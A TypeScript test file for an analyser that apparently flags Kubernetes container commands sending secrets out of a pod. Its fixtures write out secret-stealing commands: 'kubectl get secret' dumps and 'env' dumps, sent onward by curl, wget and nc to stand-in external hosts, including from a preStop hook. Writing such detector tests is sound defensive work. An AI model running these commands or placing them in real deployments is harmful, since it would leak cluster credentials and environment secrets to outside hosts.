import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CommandFact } from '../model/facts.ts';
import { effectsOf } from './effects.ts';

const command = (container: string, script: string, parts: Partial<CommandFact> = {}): CommandFact => ({
  container,
  role: 'container',
  pointer: `/${container}`,
  carrier: 'command',
  argv: ['sh', '-c', script],
  entrypoint: null,
  shown: script,
  script,
  ...parts,
});
const mount = (container: string, mountPath: string, volume = 'work') => ({
  container,
  volume,
  mountPath,
  subPath: null,
});

/** What leaves of what was read, in commands that see one volume at `/first` and at `/main`. */
const sent = (commands: readonly CommandFact[], mounts = [mount('first', '/first'), mount('main', '/main')]) =>
  effectsOf({ commands, hostPaths: [], environment: [], mounts }).flatMap((effect) =>
    effect.kind === 'send' ? [effect.what.what] : [],
  );
const first = (script: string, role: CommandFact['role'] = 'init') => command('first', script, { role });
const URL = 'https://in.example.org/x';
const TAKES = 'kubectl get secret app -o json > /first/v';

const LEAVES: Record<string, readonly CommandFact[]> = {
  'behind a sign': [first(TAKES), command('main', `curl -d @/main/v ${URL}`)],
  'as a field of a form': [first(TAKES), command('main', `curl -F 'content=</main/v' ${URL}`)],
  'as a file of a form, with its type': [first(TAKES), command('main', `curl -F 'f=@/main/v;type=text/plain' ${URL}`)],
  'behind an option with a sign between': [first(TAKES), command('main', `wget -q --post-file=/main/v ${URL}`)],
  'in the word of its option': [first(TAKES), command('main', `curl -T/main/v ${URL}`)],
  'as the input of a connection': [first(TAKES), command('main', 'nc 203.0.113.7 443 < /main/v')],
  'as one file of the directory': [first(TAKES), command('main', `curl -T "/main/$(ls -t /main | head -1)" ${URL}`)],
  'by a pattern': [first(TAKES), command('main', `curl -F 'f=@/main/*' ${URL}`)],
  'written by a container that stands later': [
    command('main', `sleep 60; curl -d @/main/v ${URL}`),
    first(TAKES, 'container'),
  ],
  'a whole directory, written by a container that stands later': [
    command('main', `sleep 60; curl -T /main ${URL}`),
    first(TAKES, 'container'),
  ],
};
for (const [name, commands] of Object.entries(LEAVES)) {
  test(`what another container took leaves: ${name}`, () =>
    assert.deepEqual([...new Set(sent(commands))], ['credentials']));
}

const STAYS: Record<string, Parameters<typeof sent>> = {
  'another volume': [
    [first(TAKES), command('main', `curl -d @/main/v ${URL}`)],
    [mount('first', '/first'), mount('main', '/main', 'other')],
  ],
  'another file': [[first(TAKES), command('main', `curl -d @/main/w ${URL}`)]],
  'another directory of the volume': [
    [first('kubectl get secret app -o json > /first/a/v'), command('main', `curl -T "/main/b/$(ls /main/b)" ${URL}`)],
  ],
  'a service of the cluster': [[first(TAKES), command('main', 'curl -d @/main/v http://vault.vault.svc:8200/x')]],
  'a text with the path in it': [[first(TAKES), command('main', `curl -d 'see /main/v' ${URL}`)]],
  'another container without a volume': [
    [first('kubectl get secret app -o json > /tmp/v'), command('main', `curl -d @/tmp/v ${URL}`)],
  ],
};
for (const [name, given] of Object.entries(STAYS)) {
  test(`what another container took stays: ${name}`, () => assert.deepEqual(sent(...given), []));
}

test('the type of a file in a form is no part of its name', () => {
  const own = (field: string) => sent([command('main', `env > /tmp/e; curl -F '${field}' ${URL}`)]);
  assert.deepEqual(own('f=@/tmp/e;type=text/plain'), ['environment']);
  assert.deepEqual(own('f=@/tmp/e;filename=a/b'), ['environment']);
  assert.deepEqual(own('f=@/tmp/d;type=text/e'), []);
});

test('a hook sees the files of its container', () => {
  const hook = (script: string, container = 'main') => command(container, script, { carrier: 'preStop' });
  const takes = command('main', 'env > /tmp/e; sleep 600');
  assert.deepEqual(sent([takes, hook('nc 203.0.113.7 443 < /tmp/e')]), ['environment']);
  assert.deepEqual(sent([command('main', 'env > e'), hook('nc 203.0.113.7 443 < e')]), ['environment']);
  assert.deepEqual(sent([takes, hook('nc 203.0.113.7 443 < /tmp/f')]), []);
  assert.deepEqual(
    sent([takes, hook('nc 203.0.113.7 443 < /tmp/e', 'first'), hook('date'), hook('date', 'first')]),
    [],
  );
});
